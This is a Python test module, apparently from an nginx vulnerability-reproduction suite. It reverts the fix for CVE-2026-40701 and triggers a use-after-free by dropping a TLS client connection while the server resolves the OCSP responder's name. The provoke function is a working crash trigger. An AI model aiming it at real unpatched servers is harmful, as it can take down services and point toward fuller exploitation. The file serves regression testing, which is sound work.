# SPDX-License-Identifier: MIT
"""CVE-2026-40701: a client whose certificate is looked up by OCSP goes away while the name of the
responder is resolved; the context of the lookup is freed, but the resolver still calls it."""

import contextlib
import os
import socket
import ssl
import subprocess
import tempfile
import time

from server import HOST, Names, free_port

TITLE = "CVE-2026-40701: client that goes while OCSP resolves a name"
FIXED = "1.31.0 (2026)"
COMMIT = "71841dced8f6"
NAMED = "block.* ngx_ssl_ocsp_ctx_t"
CONFIGURATION = """
http {{
  access_log off;
  resolver 127.0.0.1:{names} ipv6=off;
  resolver_timeout 20s;
  client_header_timeout 1s;
  server {{ listen 127.0.0.1:{port}; root {directory}/pages; }}
  server {{
    listen 127.0.0.1:{secure} ssl;
    ssl_certificate {keys}/server.pem;
    ssl_certificate_key {keys}/server.key;
    ssl_client_certificate {keys}/authority.pem;
    ssl_protocols TLSv1.2;
    ssl_verify_client on;
    ssl_ocsp on;
  }}
}}
"""
FILES = {}


def put_back(tree):
    tree.unpatch("CVE-2026-40701")


def mend(tree):
    """The Debian package has the fix."""


def make_keys(directory):
    def openssl(*words):
        subprocess.run(["openssl", *words], cwd=directory, check=True, capture_output=True)

    with open(os.path.join(directory, "responder"), "w", encoding="ascii") as file:
        file.write("authorityInfoAccess = OCSP;URI:http://responder.test:9/\n")
    key = ("-newkey", "rsa:2048", "-nodes", "-days", "30")
    files = ("-keyout", "authority.key", "-out", "authority.pem")
    openssl("req", "-x509", *key, "-subj", "/CN=authority", *files)
    for name in ("server", "client"):
        files = ("-keyout", f"{name}.key", "-out", "request")
        openssl("req", *key[:3], "-subj", f"/CN={name}", *files)
        signed = ("-CA", "authority.pem", "-CAkey", "authority.key", "-CAcreateserial")
        openssl(
            *("x509", "-req", "-in", "request", *signed, "-days", "30", "-out", f"{name}.pem"),
            *("-extfile", "responder"),
        )


@contextlib.contextmanager
def surroundings():
    names = Names()
    with names.socket, tempfile.TemporaryDirectory() as keys:
        os.chmod(keys, 0o755)
        make_keys(keys)
        yield {
            "names": names.port,
            "server_of_names": names,
            "keys": keys,
            "secure": free_port(),
        }


def provoke(server):
    names, keys = server.names["server_of_names"], server.names["keys"]
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.load_cert_chain(os.path.join(keys, "client.pem"), os.path.join(keys, "client.key"))
    with socket.create_connection((HOST, server.names["secure"])) as plain:
        plain.settimeout(3)
        with contextlib.suppress(OSError):
            context.wrap_socket(plain).close()
    question = names.question()
    time.sleep(2)  # The server gives up after a second, and looks at nothing before.
    for _ in range(20):
        server.ask("/index.html")
    names.answer_address(question)
    time.sleep(0.3)
    return []
